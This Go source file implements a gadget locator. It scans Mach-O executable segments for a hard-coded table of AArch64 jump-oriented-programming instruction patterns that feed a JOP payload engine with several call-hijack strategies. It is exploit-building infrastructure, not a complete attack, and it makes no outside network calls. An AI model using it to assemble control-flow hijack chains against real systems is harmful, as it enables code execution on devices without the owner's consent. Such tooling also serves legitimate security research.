// Package gadget implements spec.md §4.E: a fixed table of hard-coded
// AArch64 instruction sequences, located by exact byte-pattern search across
// a Mach-O image's executable segments. No gadget synthesis is performed —
// every pattern here is the literal encoding of the instructions the JOP
// engine (internal/jop) names in its payload-construction skeleton.
package gadget

import (
	"encoding/binary"

	"ktsim/internal/machoimg"
)

// Gadget names the JOP engine looks up by when selecting a strategy
// (internal/jop's required_gadgets sets use these exact strings). Names
// mirror the mnemonic each gadget's bytes decode to, the way
// original_source/.../jop/call_strategy_*.c names its own gadget fields.
const (
	Dispatch = "dispatch" // ldp x2, x1, [x1]; br x2

	// Strategy 1's register-only chain. Strategy 2 shares all of it except
	// mov_x21_x2__br_x8, mov_x22_x6__blr_x8, store_resume_1 and
	// mov_x30_x21__br_x8; mov_x24_x4__br_x8, mov_x28_x0__blr_x8,
	// mov_x11_x24__br_x8, mov_x30_x28__br_x12 and load_recover are located
	// but required by no strategy in internal/jop.
	MovX12X2BrX3   ="mov_x12_x2__br_x3"
	MovX2X30BrX12  = "mov_x2_x30__br_x12"
	MovX8X4BrX5    = "mov_x8_x4__br_x5"
	MovX21X2BrX8   = "mov_x21_x2__br_x8"
	MovX20X0BlrX8  = "mov_x20_x0__blr_x8"
	MovX10X4BrX8   = "mov_x10_x4__br_x8"
	MovX9X10BrX8   = "mov_x9_x10__br_x8"
	MovX11X9BrX8   = "mov_x11_x9__br_x8"
	LoadRow        = "load_row" // ldp x3,x4,[x20,#0x20]; ldp x5,x6,[x20,#0x30]; blr x8
	AddX20X34BrX8  = "add_x20_0x34__br_x8"
	MovX22X6BlrX8  = "mov_x22_x6__blr_x8"
	MovX24X4BrX8   = "mov_x24_x4__br_x8"
	MovX0X3BlrX8   = "mov_x0_x3__blr_x8"
	MovX28X0BlrX8  = "mov_x28_x0__blr_x8"
	MovX12X3BrX8   = "mov_x12_x3__br_x8"
	MovX0X5BlrX8   = "mov_x0_x5__blr_x8"
	MovX9X0BrX11   = "mov_x9_x0__br_x11"
	MovX7X9BlrX11  = "mov_x7_x9__blr_x11"
	MovX11X24BrX8  = "mov_x11_x24__br_x8"
	MovX1X9MovX2X10BlrX11 = "mov_x1_x9__mov_x2_x10__blr_x11"
	MovX30X28BrX12 = "mov_x30_x28__br_x12"
	LoadRecover    = "load_recover" // ldp x8,x1,[x20,#0x10]; blr x8
	StoreResume1   = "store_resume_1"
	MovX30X21BrX8  = "mov_x30_x21__br_x8"
	Ret            = "ret"
	// GadgetInvokeFunc is strategy 1's fused call+resume gadget: "blr x12;
	// br x8" invokes the function address staged in x12 with x0-x7 as its
	// AArch64 argument registers, then resumes the dispatch loop.
	GadgetInvokeFunc = "gadget_invoke_func"
	// MovX8X6BrX6 is the prologue-hijack strategies' dispatch seed: reading
	// x6 for both the mov and the branch (rather than mov_x8_x4__br_x5's
	// split x4/x5 pair) frees x4 for argument-relay use in strategies 3/5/6.
	MovX8X6BrX6 = "mov_x8_x6__br_x6"
	// MovX24X2BrX8 relays the hijacked function address into x24, the
	// register gadget_call_function_1's "blr x24" invokes.
	MovX24X2BrX8 = "mov_x24_x2__br_x8"

	// Strategy 2's own save/recover gadgets (mov_x28_x2__blr_x8,
	// mov_x21_x5__blr_x8, store_resume_2, mov_x30_x28__br_x8);
	// mov_x15_x5__br_x11, mov_x17_x15__br_x8 and mov_x30_x22__br_x17 are
	// located but required by no strategy.
	MovX28X2BlrX8 = "mov_x28_x2__blr_x8"
	MovX21X5BlrX8 = "mov_x21_x5__blr_x8"
	MovX15X5BrX11 = "mov_x15_x5__br_x11"
	MovX17X15BrX8 = "mov_x17_x15__br_x8"
	MovX30X22BrX17 = "mov_x30_x22__br_x17"
	StoreResume2  = "store_resume_2"
	MovX30X28BrX8 = "mov_x30_x28__br_x8"

	// Shared across strategies 3, 5 and 6's prologue/epilogue hijack chain,
	// except gadget_initialize_x20_1, which is located but required by none
	// of them.
	MovX23X0BlrX8        = "mov_x23_x0__blr_x8"
	GadgetInitializeX20_1 = "gadget_initialize_x20_1"
	GadgetCallFunction1  = "gadget_call_function_1"

	// gadget_populate_1 and gadget_store_result_1 are strategy 3's own;
	// mov_x25_x0__blr_x8, mov_x19_x9__br_x8 and mov_x20_x12__blr_x8 are
	// required by strategies 3, 5 and 6, and mov_x8_x10__br_x11 by none.
	MovX25X0BlrX8    ="mov_x25_x0__blr_x8"
	GadgetPopulate1  = "gadget_populate_1"
	MovX19X9BrX8     = "mov_x19_x9__br_x8"
	MovX20X12BlrX8   = "mov_x20_x12__blr_x8"
	MovX8X10BrX11    = "mov_x8_x10__br_x11"
	GadgetStoreResult1 = "gadget_store_result_1"

	// gadget_store_result_2 is required by strategies 5 and 6;
	// mov_x23_x19__br_x8 and mov_x25_x19__br_x8 by none.
	MovX23X19BrX8 ="mov_x23_x19__br_x8"
	MovX25X19BrX8 = "mov_x25_x19__br_x8"
	GadgetStoreResult2 = "gadget_store_result_2"

	// gadget_populate_2 is strategy 5's own; the mov gadgets below it are
	// located but required by no strategy.
	GadgetPopulate2 ="gadget_populate_2"
	MovX19X3BrX8    = "mov_x19_x3__br_x8"
	MovX20X6BlrX8   = "mov_x20_x6__blr_x8"
	MovX21X4BlrX8   = "mov_x21_x4__blr_x8"
	MovX22X12BlrX8  = "mov_x22_x12__blr_x8"
	MovX23X5BrX8    = "mov_x23_x5__br_x8"
	MovX24X7BlrX8   = "mov_x24_x7__blr_x8"
	MovX8X9BrX10    = "mov_x8_x9__br_x10"

	// gadget_populate_3 is strategy 6's own; the mov gadgets above it are
	// located but required by no strategy.
	MovX19X4BrX8   ="mov_x19_x4__br_x8"
	MovX20X7BrX8   = "mov_x20_x7__br_x8"
	MovX23X6BlrX8  = "mov_x23_x6__blr_x8"
	MovX24X0BlrX8  = "mov_x24_x0__blr_x8"
	MovX8X10BrX9   = "mov_x8_x10__br_x9"
	GadgetPopulate3 = "gadget_populate_3" // NEON ldur/stur q0 argument-slot mover
)

// Gadget is one located instruction sequence: a fixed pattern plus, once
// resolved, the slid runtime address of its first match.
type Gadget struct {
	Name     string
	Pattern  []uint32
	Address  uint64
	Resolved bool
}

// builtin is the canonical gadget table (spec.md §3's "fixed array of
// (name, &[u32]) patterns"). Every pattern is a literal little-endian
// AArch64 instruction encoding, hand-derived from the named gadget's
// register-transfer semantics in original_source/.../jop/call_strategy_*.c
// and cross-checked against internal/arm64/decode_loadstore.go's own
// LDP/LDR/STR bit layouts so the gadget table and the decoder agree.
func builtin() []*Gadget {
	return []*Gadget{
		{Name: Dispatch, Pattern: []uint32{
			0xA9400422, // ldp x2, x1, [x1]
			0xD61F0040, // br x2
		}},
		{Name: MovX12X2BrX3, Pattern: []uint32{
			0xAA0203EC, // mov x12, x2
			0xD61F0060, // br x3
		}},
		{Name: MovX2X30BrX12, Pattern: []uint32{
			0xAA1E03E2, // mov x2, x30
			0xD61F0180, // br x12
		}},
		{Name: MovX8X4BrX5, Pattern: []uint32{
			0xAA0403E8, // mov x8, x4
			0xD61F00A0, // br x5
		}},
		{Name: MovX21X2BrX8, Pattern: []uint32{
			0xAA0203F5, // mov x21, x2
			0xD61F0100, // br x8
		}},
		{Name: MovX20X0BlrX8, Pattern: []uint32{
			0xAA0003F4, // mov x20, x0
			0xD63F0100, // blr x8
		}},
		{Name: MovX10X4BrX8, Pattern: []uint32{
			0xAA0403EA, // mov x10, x4
			0xD61F0100, // br x8
		}},
		{Name: MovX9X10BrX8, Pattern: []uint32{
			0xAA0A03E9, // mov x9, x10
			0xD61F0100, // br x8
		}},
		{Name: MovX11X9BrX8, Pattern: []uint32{
			0xAA0903EB, // mov x11, x9
			0xD61F0100, // br x8
		}},
		{Name: LoadRow, Pattern: []uint32{
			0xA9421283, // ldp x3, x4, [x20, #0x20]
			0xA9431A85, // ldp x5, x6, [x20, #0x30]
			0xD63F0100, // blr x8
		}},
		{Name: AddX20X34BrX8, Pattern: []uint32{
			0x9100D294, // add x20, x20, #0x34
			0xD61F0100, // br x8
		}},
		{Name: MovX22X6BlrX8, Pattern: []uint32{
			0xAA0603F6, // mov x22, x6
			0xD63F0100, // blr x8
		}},
		{Name: MovX24X4BrX8, Pattern: []uint32{
			0xAA0403F8, // mov x24, x4
			0xD61F0100, // br x8
		}},
		{Name: MovX0X3BlrX8, Pattern: []uint32{
			0xAA0303E0, // mov x0, x3
			0xD63F0100, // blr x8
		}},
		{Name: MovX28X0BlrX8, Pattern: []uint32{
			0xAA0003FC, // mov x28, x0
			0xD63F0100, // blr x8
		}},
		{Name: MovX12X3BrX8, Pattern: []uint32{
			0xAA0303EC, // mov x12, x3
			0xD61F0100, // br x8
		}},
		{Name: MovX0X5BlrX8, Pattern: []uint32{
			0xAA0503E0, // mov x0, x5
			0xD63F0100, // blr x8
		}},
		{Name: MovX9X0BrX11, Pattern: []uint32{
			0xAA0003E9, // mov x9, x0
			0xD61F0160, // br x11
		}},
		{Name: MovX7X9BlrX11, Pattern: []uint32{
			0xAA0903E7, // mov x7, x9
			0xD63F0160, // blr x11
		}},
		{Name: MovX11X24BrX8, Pattern: []uint32{
			0xAA1803EB, // mov x11, x24
			0xD61F0100, // br x8
		}},
		{Name: MovX1X9MovX2X10BlrX11, Pattern: []uint32{
			0xAA0903E1, // mov x1, x9
			0xAA0A03E2, // mov x2, x10
			0xD63F0160, // blr x11
		}},
		{Name: MovX30X28BrX12, Pattern: []uint32{
			0xAA1C03FE, // mov x30, x28
			0xD61F0180, // br x12
		}},
		{Name: LoadRecover, Pattern: []uint32{
			0xA9410688, // ldp x8, x1, [x20, #0x10]
			0xD63F0100, // blr x8
		}},
		{Name: StoreResume1, Pattern: []uint32{
			0xF9000280, // str x0, [x20]
			0xF94002C8, // ldr x8, [x22]
			0xF9401508, // ldr x8, [x8, #0x28]
			0xAA1603E0, // mov x0, x22
			0xD63F0100, // blr x8
		}},
		{Name: MovX30X21BrX8, Pattern: []uint32{
			0xAA1503FE, // mov x30, x21
			0xD61F0100, // br x8
		}},
		{Name: Ret, Pattern: []uint32{
			0xD65F03C0, // ret
		}},
		{Name: MovX8X6BrX6, Pattern: []uint32{
			0xAA0603E8, // mov x8, x6
			0xD61F00C0, // br x6
		}},
		{Name: MovX24X2BrX8, Pattern: []uint32{
			0xAA0203F8, // mov x24, x2
			0xD61F0100, // br x8
		}},
		{Name: GadgetInvokeFunc, Pattern: []uint32{
			0xD63F0180, // blr x12
			0xD61F0100, // br x8
		}},

		{Name: MovX28X2BlrX8, Pattern: []uint32{
			0xAA0203FC, // mov x28, x2
			0xD63F0100, // blr x8
		}},
		{Name: MovX21X5BlrX8, Pattern: []uint32{
			0xAA0503F5, // mov x21, x5
			0xD63F0100, // blr x8
		}},
		{Name: MovX15X5BrX11, Pattern: []uint32{
			0xAA0503EF, // mov x15, x5
			0xD61F0160, // br x11
		}},
		{Name: MovX17X15BrX8, Pattern: []uint32{
			0xAA0F03F1, // mov x17, x15
			0xD61F0100, // br x8
		}},
		{Name: MovX30X22BrX17, Pattern: []uint32{
			0xAA1603FE, // mov x30, x22
			0xD61F0220, // br x17
		}},
		{Name: StoreResume2, Pattern: []uint32{
			0xF9000280, // str x0, [x20]
			0xF94002A8, // ldr x8, [x21]
			0xF9401508, // ldr x8, [x8, #0x28]
			0xAA1503E0, // mov x0, x21
			0xD63F0100, // blr x8
		}},
		{Name: MovX30X28BrX8, Pattern: []uint32{
			0xAA1C03FE, // mov x30, x28
			0xD61F0100, // br x8
		}},

		{Name: MovX23X0BlrX8, Pattern: []uint32{
			0xAA0003F7, // mov x23, x0
			0xD63F0100, // blr x8
		}},
		{Name: GadgetInitializeX20_1, Pattern: []uint32{
			0xF9406274, // ldr x20, [x19, #0xc0]
			0xF9400008, // ldr x8, [x0]
			0xF9405108, // ldr x8, [x8, #0xa0]
			0xD63F0100, // blr x8
		}},
		{Name: GadgetCallFunction1, Pattern: []uint32{
			0xD63F0300, // blr x24
			0xAA0003F3, // mov x19, x0
			0xF9400328, // ldr x8, [x25]
			0xF9406908, // ldr x8, [x8, #0xd0]
			0xAA1903E0, // mov x0, x25
			0xD63F0100, // blr x8
		}},

		{Name: MovX25X0BlrX8, Pattern: []uint32{
			0xAA0003F9, // mov x25, x0
			0xD63F0100, // blr x8
		}},
		{Name: GadgetPopulate1, Pattern: []uint32{
			0xA9400EE2, // ldp x2, x3, [x23]
			0xA94116E4, // ldp x4, x5, [x23, #0x10]
			0xA9421EE6, // ldp x6, x7, [x23, #0x20]
			0xA9432AE9, // ldp x9, x10, [x23, #0x30]
			0xA94432EB, // ldp x11, x12, [x23, #0x40]
			0xA9025BF5, // stp x21, x22, [sp, #0x20]
			0xA90133EB, // stp x11, x12, [sp, #0x10]
			0xA9002BE9, // stp x9, x10, [sp]
			0xAA1303E0, // mov x0, x19
			0xAA1403E1, // mov x1, x20
			0xD63F0100, // blr x8
		}},
		{Name: MovX19X9BrX8, Pattern: []uint32{
			0xAA0903F3, // mov x19, x9
			0xD61F0100, // br x8
		}},
		{Name: MovX20X12BlrX8, Pattern: []uint32{
			0xAA0C03F4, // mov x20, x12
			0xD63F0100, // blr x8
		}},
		{Name: MovX8X10BrX11, Pattern: []uint32{
			0xAA0A03E8, // mov x8, x10
			0xD61F0160, // br x11
		}},
		{Name: GadgetStoreResult1, Pattern: []uint32{
			0xF9011C13, // str x19, [x0, #0x238]
			0xF9410C00, // ldr x0, [x0, #0x218]
			0xF9400008, // ldr x8, [x0]
			0xF940A108, // ldr x8, [x8, #0x140]
			0xD63F0100, // blr x8
		}},

		{Name: MovX23X19BrX8, Pattern: []uint32{
			0xAA1303F7, // mov x23, x19
			0xD61F0100, // br x8
		}},
		{Name: MovX25X19BrX8, Pattern: []uint32{
			0xAA1303F9, // mov x25, x19
			0xD61F0100, // br x8
		}},
		{Name: GadgetStoreResult2, Pattern: []uint32{
			0xF9014413, // str x19, [x0, #0x288]
			0xF9413400, // ldr x0, [x0, #0x260]
			0xF9400008, // ldr x8, [x0]
			0xF940AD08, // ldr x8, [x8, #0x158]
			0xD63F0100, // blr x8
		}},

		{Name: GadgetPopulate2, Pattern: []uint32{
			0xA9400EE2, // ldp x2, x3, [x23]
			0xA94116E4, // ldp x4, x5, [x23, #0x10]
			0xA9421EE6, // ldp x6, x7, [x23, #0x20]
			0xA9432AE9, // ldp x9, x10, [x23, #0x30]
			0xA94432EB, // ldp x11, x12, [x23, #0x40]
			0xA90257F6, // stp x22, x21, [sp, #0x20]
			0xA90133EB, // stp x11, x12, [sp, #0x10]
			0xA9002BE9, // stp x9, x10, [sp]
			0xAA1303E0, // mov x0, x19
			0xAA1403E1, // mov x1, x20
			0xD63F0100, // blr x8
		}},
		{Name: MovX19X3BrX8, Pattern: []uint32{
			0xAA0303F3, // mov x19, x3
			0xD61F0100, // br x8
		}},
		{Name: MovX20X6BlrX8, Pattern: []uint32{
			0xAA0603F4, // mov x20, x6
			0xD63F0100, // blr x8
		}},
		{Name: MovX21X4BlrX8, Pattern: []uint32{
			0xAA0403F5, // mov x21, x4
			0xD63F0100, // blr x8
		}},
		{Name: MovX22X12BlrX8, Pattern: []uint32{
			0xAA0C03F6, // mov x22, x12
			0xD63F0100, // blr x8
		}},
		{Name: MovX23X5BrX8, Pattern: []uint32{
			0xAA0503F7, // mov x23, x5
			0xD61F0100, // br x8
		}},
		{Name: MovX24X7BlrX8, Pattern: []uint32{
			0xAA0703F8, // mov x24, x7
			0xD63F0100, // blr x8
		}},
		{Name: MovX8X9BrX10, Pattern: []uint32{
			0xAA0903E8, // mov x8, x9
			0xD61F0140, // br x10
		}},

		{Name: MovX19X4BrX8, Pattern: []uint32{
			0xAA0403F3, // mov x19, x4
			0xD61F0100, // br x8
		}},
		{Name: MovX20X7BrX8, Pattern: []uint32{
			0xAA0703F4, // mov x20, x7
			0xD61F0100, // br x8
		}},
		{Name: MovX23X6BlrX8, Pattern: []uint32{
			0xAA0603F7, // mov x23, x6
			0xD63F0100, // blr x8
		}},
		{Name: MovX24X0BlrX8, Pattern: []uint32{
			0xAA0003F8, // mov x24, x0
			0xD63F0100, // blr x8
		}},
		{Name: MovX8X10BrX9, Pattern: []uint32{
			0xAA0A03E8, // mov x8, x10
			0xD61F0120, // br x9
		}},
		{Name: GadgetPopulate3, Pattern: []uint32{
			0xA9400EE2, // ldp x2, x3, [x23]
			0xA94116E4, // ldp x4, x5, [x23, #0x10]
			0xA9421EE6, // ldp x6, x7, [x23, #0x20]
			0xF9401AE9, // ldr x9, [x23, #0x30]
			0x3CC382E0, // ldur q0, [x23, #0x38]
			0xF94026EA, // ldr x10, [x23, #0x48]
			0xA9025BF5, // stp x21, x22, [sp, #0x20]
			0xF9000FEA, // str x10, [sp, #0x18]
			0x3C8083E0, // stur q0, [sp, #8]
			0xF90003E9, // str x9, [sp]
			0xAA1303E0, // mov x0, x19
			0xAA1403E1, // mov x1, x20
			0xD63F0100, // blr x8
		}},
	}
}

// Locator scans executable segments for every gadget in its table,
// stopping at the first match for each (spec.md §4.E: "first match wins;
// later duplicates are ignored").
type Locator struct {
	Gadgets []*Gadget
}

// New builds a Locator over the built-in gadget table.
func New() *Locator {
	return &Locator{Gadgets: builtin()}
}

// Resolve reports a located gadget's address by name.
func (l *Locator) Resolve(name string) (uint64, bool) {
	for _, g := range l.Gadgets {
		if g.Name == name && g.Resolved {
			return g.Address, true
		}
	}
	return 0, false
}

// unresolved reports whether any gadget still needs a match.
func (l *Locator) unresolved() bool {
	for _, g := range l.Gadgets {
		if !g.Resolved {
			return true
		}
	}
	return false
}

// Scan walks every executable segment word-by-word looking for each
// not-yet-resolved gadget's byte pattern, recording
// segment.vmaddr + 4*i + slide on a match. interrupted is polled at least
// once per instruction (spec.md §5's cancellation contract); when it
// reports true, Scan returns immediately with whatever gadgets it has
// already resolved.
func (l *Locator) Scan(segments []machoimg.Segment, slide uint64, interrupted func() bool) {
	for _, seg := range segments {
		if !seg.Executable() {
			continue
		}
		if !l.scanSegment(seg, slide, interrupted) {
			return
		}
	}
}

func (l *Locator) scanSegment(seg machoimg.Segment, slide uint64, interrupted func() bool) bool {
	words := len(seg.Data) / 4
	for i := 0; i < words; i++ {
		if interrupted != nil && interrupted() {
			return false
		}
		if !l.unresolved() {
			return true
		}
		for _, g := range l.Gadgets {
			if g.Resolved {
				continue
			}
			if matchAt(seg.Data, i, g.Pattern) {
				g.Address = seg.VMAddr + uint64(4*i) + slide
				g.Resolved = true
			}
		}
	}
	return true
}

func matchAt(data []byte, wordOffset int, pattern []uint32) bool {
	start := wordOffset * 4
	end := start + 4*len(pattern)
	if end > len(data) {
		return false
	}
	for i, want := range pattern {
		got := binary.LittleEndian.Uint32(data[start+4*i : start+4*i+4])
		if got != want {
			return false
		}
	}
	return true
}
